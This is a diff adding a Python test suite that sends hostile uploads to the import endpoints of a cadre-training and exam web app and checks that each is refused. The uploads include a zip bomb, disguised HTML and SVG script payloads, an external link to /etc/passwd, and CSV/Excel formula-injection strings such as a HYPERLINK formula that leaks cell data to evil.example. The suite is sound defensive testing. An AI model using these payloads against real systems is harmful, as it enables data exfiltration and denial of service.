@@ -1,0 +1,330 @@
+"""Hostile files sent to every upload: the cadre import, the question import (xlsx, csv, GIFT, Aiken), a training
+class's enrolment list, question images and the exam file. Too large, the wrong type behind the right extension,
+a zip bomb, formulas and external links: each is refused with a message (or imported as inert text) and nothing is
+stored; formula text never goes out again as a live formula."""
+
+import io
+import re
+import time
+import zipfile
+from datetime import date
+
+import pytest
+from openpyxl import Workbook
+from sqlalchemy import func, select
+
+from accounts.models import Cadre, Unit, User
+from archive.models import TrainingEnrolment
+from exam.models import Exam
+from question_bank.formats import table
+from question_bank.models import Question
+from tests.archive.test_archive import _class
+from tests.factories import make_bank, make_cadre, make_unit
+
+CADRE_HEADERS = ["工号", "姓名", "性别", "出生日期", "单位", "职级", "职务", "学历", "政治面貌", "手机号码"]
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+
+
+def _workbook(header, rows) -> bytes:
+    wb = Workbook()
+    ws = wb.active
+    ws.append(header)
+    for row in rows:
+        ws.append(row)
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def cadre_row(number="QE7001", name="李文博"):
+    return [number, name, "男", date(1994, 3, 2), "QSZ", "副科级", "副镇长", "大学本科", "中共党员", "13900001111"]
+
+
+def question_row(stem="题干______"):
+    cells = dict.fromkeys(table.HEADERS, "")
+    cells.update({"题型": "单选题", "题干": stem, "答案": "A", "选项A": "甲", "选项B": "乙"})
+    return [cells[h] for h in table.HEADERS]
+
+
+@pytest.fixture
+def desk(client, auth, db):
+    """An organisation-department admin signed in; a town (code QSZ) with one cadre, a bank and a training class."""
+    town = make_unit("青山镇", code="QSZ", kind="town")
+    member = make_cadre(unit=town)
+    bank = make_bank()
+    admin = auth.login_as("org_admin")
+    klass = _class(admin, town, code="PXU")
+    db.session.commit()
+    return {"bank": bank.code, "class": klass.code, "member": member.employee_number}
+
+
+def _stored(db, app):
+    """What an upload could leave behind: rows, and files waiting for a confirmation or kept as images."""
+    db.session.expire_all()
+    counts = tuple(
+        db.session.scalar(select(func.count(m.id))) for m in (User, Cadre, Question, Exam, TrainingEnrolment)
+    )
+    from pathlib import Path
+
+    instance = Path(app.instance_path)
+    files = sorted(str(p.relative_to(instance)) for p in instance.rglob("*") if p.is_file() and "secret" not in p.name)
+    return counts, files
+
+
+def _post_multipart(client, url, fields, **kwargs):
+    """A multipart POST encoded in memory (the test client spools a large body to a temporary file that nobody
+    closes when the app refuses it unread)."""
+    from werkzeug.test import encode_multipart
+
+    boundary, body = encode_multipart({"csrf_token": client.csrf_token(), **fields})
+    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}", **kwargs)
+
+
+def _upload(client, d, endpoint, data, filename):
+    """Send `data` as `filename` to one upload; returns (status, text of the page it ends on, or the JSON
+    error's message)."""
+    from werkzeug.datastructures import FileStorage
+
+    file = FileStorage(io.BytesIO(data), filename=filename)
+    url, fields = {
+        "cadres": ("/admin/cadres/import", {"file": file}),
+        "questions": (f"/banks/{d['bank']}/import", {"file": file, "status": "draft"}),
+        "enrol": (f"/archive/classes/{d['class']}/enrol", {"mode": "xlsx", "file": file}),
+        "image": ("/banks/images", {"image": file}),
+        "exam": ("/exams/import", {"file": file}),
+    }[endpoint]
+    response = _post_multipart(client, url, fields, follow_redirects=True, headers={"Accept": "application/json"}
+                               if endpoint == "image" else {})  # fmt: skip
+    body = response.get_json(silent=True)
+    return response.status_code, body["error"]["message"] if body else response.get_data(as_text=True)
+
+
+XLSX_ENDPOINTS = ("cadres", "questions", "enrol")
+ALL_ENDPOINTS = (*XLSX_ENDPOINTS, "image", "exam")
+
+
+def test_an_oversize_file_is_refused_before_it_is_read(client, db, app, desk):
+    """Anything over MAX_CONTENT_LENGTH (16 MB) is a 413 with a message, at every upload."""
+    before = _stored(db, app)
+    big = b"\0" * (app.config["MAX_CONTENT_LENGTH"] + 1)
+    for endpoint in ALL_ENDPOINTS:
+        status, text = _upload(client, desk, endpoint, big, "big.xlsx" if endpoint != "image" else "big.png")
+        assert status == 413, (endpoint, status)
+        assert "上传的文件过大" in text, endpoint
+    assert _stored(db, app) == before
+
+
+def test_an_image_over_2_mb_is_refused(client, db, app, desk):
+    before = _stored(db, app)
+    status, text = _upload(client, desk, "image", PNG + b"\0" * (2 * 1024 * 1024), "photo.png")
+    assert status == 400 and "图片大小超过2 MB" in text
+    assert _stored(db, app) == before
+
+
+@pytest.mark.parametrize(
+    ("endpoint", "filename", "data", "message"),
+    [
+        ("cadres", "cadres.xlsx", PNG, "不是有效的.xlsx"),
+        ("cadres", "cadres.xlsx", HTML, "不是有效的.xlsx"),
+        ("questions", "questions.xlsx", PNG, "不是有效的.xlsx"),
+        ("questions", "questions.xlsx", HTML, "不是有效的.xlsx"),
+        ("enrol", "list.xlsx", HTML, "不是有效的.xlsx"),
+        ("image", "photo.png", HTML, "仅支持PNG"),
+        ("image", "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "仅支持PNG"),
+        ("exam", "exam.json", HTML, "请选择考试文件"),
+        ("exam", "exam.json", PNG, "请选择考试文件"),
+    ],
+)
+def test_the_wrong_type_behind_the_right_extension_is_refused(client, db, app, desk, endpoint, filename, data,
+                                                             message):  # fmt: skip
+    before = _stored(db, app)
+    status, text = _upload(client, desk, endpoint, data, filename)
+    assert status in (200, 400) and message in text, (endpoint, status)
+    assert _stored(db, app) == before
+
+
+def test_a_zip_that_is_no_workbook_is_refused(client, db, app, desk):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as archive:
+        archive.writestr("word/document.xml", "<w:document/>")
+        archive.writestr("[Content_Types].xml", "<Types/>")
+    before = _stored(db, app)
+    for endpoint in XLSX_ENDPOINTS:
+        status, text = _upload(client, desk, endpoint, buf.getvalue(), "looks-right.xlsx")
+        assert status == 200 and "不是有效的.xlsx" in text, endpoint
+    assert _stored(db, app) == before
+
+
+def test_text_imports_refuse_html_in_their_place(client, db, app, desk):
+    """An HTML page named .csv, .gift or .txt (Aiken) is not a question file: refused with a reason, nothing kept."""
+    before = _stored(db, app)
+    for filename in ("questions.csv", "questions.gift", "questions.aiken"):
+        status, text = _upload(client, desk, "questions", HTML, filename)
+        assert status == 200 and "文件未导入" in text, filename
+    assert _stored(db, app) == before
+
+
+@pytest.fixture(scope="module")
+def zip_bomb() -> bytes:
+    """A valid-looking .xlsx whose sheet unpacks to 210 MB of white space (about 200 KB packed). Written in
+    chunks: the test never holds the unpacked sheet in memory."""
+    good = zipfile.ZipFile(io.BytesIO(_workbook(CADRE_HEADERS, [cadre_row()])))
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in good.infolist():
+            if not item.filename.endswith("sheet1.xml"):
+                out.writestr(item, good.read(item))
+                continue
+            sheet = good.read(item)
+            head, tail = sheet.split(b"<sheetData>", 1)
+            with out.open(item.filename, "w", force_zip64=True) as member:
+                member.write(head + b"<sheetData>")
+                chunk = b" " * (1024 * 1024)
+                for _ in range(210):
+                    member.write(chunk)
+                member.write(tail)
+    return buf.getvalue()
+
+
+def test_a_zip_bomb_named_xlsx_is_refused_quickly(client, db, app, desk, zip_bomb):
+    assert len(zip_bomb) < 2 * 1024 * 1024  # small on the wire, 210 MB unpacked
+    before = _stored(db, app)
+    for endpoint in XLSX_ENDPOINTS:
+        started = time.perf_counter()
+        status, text = _upload(client, desk, endpoint, zip_bomb, "bomb.xlsx")
+        elapsed = time.perf_counter() - started
+        assert status == 200 and "工作簿解压后过大" in text, endpoint
+        assert elapsed < 1.5, (endpoint, elapsed)  # judged by the sizes it declares, not by inflating it
+    assert _stored(db, app) == before
+
+
+def _with_external_link(data: bytes) -> bytes:
+    """The workbook with an external link part (to a file on the server) wired into the workbook."""
+    src = zipfile.ZipFile(io.BytesIO(data))
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in src.infolist():
+            body = src.read(item)
+            if item.filename == "xl/_rels/workbook.xml.rels":
+                body = body.replace(
+                    b"</Relationships>",
+                    (
+                        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
+                    ),
+                )
+            elif item.filename == "xl/workbook.xml":
+                body = body.replace(
+                    b"</workbook>",
+                    b'<externalReferences><externalReference r:id="rIdX1"/></externalReferences></workbook>',
+                )
+            elif item.filename == "[Content_Types].xml":
+                body = body.replace(
+                    b"</Types>",
+                    (
+                        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+                        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
+                    ),
+                )
+            out.writestr(item, body)
+        out.writestr(
+            "xl/externalLinks/externalLink1.xml",
+            (
+                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+                '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
+                "</externalLink>"
+            ),
+        )
+        out.writestr(
+            "xl/externalLinks/_rels/externalLink1.xml.rels",
+            (
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                'externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
+            ),
+        )
+    return buf.getvalue()  # fmt: skip
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"点此")', "=1+1", "='[other.xlsx]Sheet1'!A1", "=[1]Sheet1!A1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_and_external_links_are_refused_and_nothing_is_kept(client, db, app, desk, formula):
+    """A formula anywhere, even in one row of many good ones, refuses the whole file with the cell named; the
+    external link part is never followed."""
+    files = {
+        "cadres": _workbook(CADRE_HEADERS, [cadre_row(f"QE70{i:02d}") for i in range(10)]
+                            + [cadre_row("QE7099", formula)]),
+        "questions": _workbook(table.HEADERS, [question_row(f"第{i}题______") for i in range(10)]
+                               + [question_row(formula)]),
+        "enrol": _workbook(["工号"], [[desk["member"]], [formula]]),
+    }  # fmt: skip
+    before = _stored(db, app)
+    for endpoint, data in files.items():
+        status, text = _upload(client, desk, endpoint, _with_external_link(data), "links.xlsx")
+        assert status == 200 and "不支持公式" in text, endpoint
+        assert re.search(r"第1[23]行|第3行", text), endpoint  # the row of the formula is named
+    assert _stored(db, app) == before
+
+
+def _holds_text(xlsx: bytes, text: bytes) -> bool:
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        return any(text in archive.read(name) for name in archive.namelist() if name.startswith("xl/"))
+
+
+def _live_formulas(xlsx: bytes) -> list[str]:
+    """The formulas of every sheet of a workbook (what Excel would evaluate), read from its XML."""
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
+                for f in re.findall(rb"<f[ >].*?</f>|<f/>", archive.read(name))]  # fmt: skip
+
+
+def test_formula_text_imported_as_text_never_goes_out_as_a_formula(client, db, app, desk):
+    """A CSV cannot hold a formula, only text that looks like one: it is imported as text, and the bank's exports
+    write it as a text cell (xlsx) or with a leading apostrophe (csv)."""
+    stem = '=HYPERLINK("http://evil.example","点此")______'
+    csv_data = ("\ufeff" + ",".join(table.HEADERS) + "\r\n" + ",".join(
+        '"' + v.replace('"', '""') + '"' for v in question_row(stem)) + "\r\n").encode()  # fmt: skip
+    status, text = _upload(client, desk, "questions", csv_data, "q.csv")
+    assert status == 200 and "道试题待导入" in text, re.findall(r"<li>[^<]*</li>", text)
+    assert client.post_form(f"/banks/{desk['bank']}/import/commit").status_code == 302
+    assert db.session.scalar(select(func.count(Question.id))) == 1
+    xlsx = client.get(f"/banks/{desk['bank']}/export?format=xlsx").data
+    assert _live_formulas(xlsx) == [] and _holds_text(xlsx, b"HYPERLINK")
+    csv_text = client.get(f"/banks/{desk['bank']}/export?format=csv").data.decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_every_workbook_out(client, db, app, desk):
+    """A cadre imported from a text cell "=1+1…" (not a formula) keeps it as text: the credentials sheet and the
+    archive roster write it as text."""
+    name = '=HYPERLINK("http://evil.example","x")'
+    wb = Workbook()
+    wb.active.append(CADRE_HEADERS)
+    wb.active.append(cadre_row("QE7200", name))
+    wb.active["B2"].data_type = "s"  # a text cell, as Excel keeps text typed after an apostrophe
+    buf = io.BytesIO()
+    wb.save(buf)
+    status, text = _upload(client, desk, "cadres", buf.getvalue(), "names.xlsx")
+    assert status == 200 and "不支持公式" not in text, text[:2000]
+    done = client.post_form("/admin/cadres/import/commit")
+    assert done.status_code == 200
+    assert db.session.scalar(select(User.name).where(User.username == "QE7200")) == name
+    password = re.search(r'name="password" value="([^"]+)"', done.get_data(as_text=True)).group(1)
+    # The credentials sheet formats what the page posts back: anything an attacker puts there stays text too.
+    cells = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)"]
+    credentials = client.post_form("/admin/cadres/import/credentials", {
+        "number": ["QE7200", *cells], "name": [name, *cells], "unit": cells + ["x"], "password": [password, *cells]
+    }).data  # fmt: skip
+    assert _live_formulas(credentials) == []
+    from openpyxl import load_workbook
+
+    ws = load_workbook(io.BytesIO(credentials)).active
+    assert {c.data_type for row in ws.iter_rows(min_row=2) for c in row if c.value} == {"s"}
+    roster = client.get("/archive/overview/roster.xlsx").data
+    assert _live_formulas(roster) == [] and _holds_text(roster, b"HYPERLINK")
+    unit = db.session.scalar(select(Unit).where(Unit.code == "QSZ"))
+    assert unit is not None
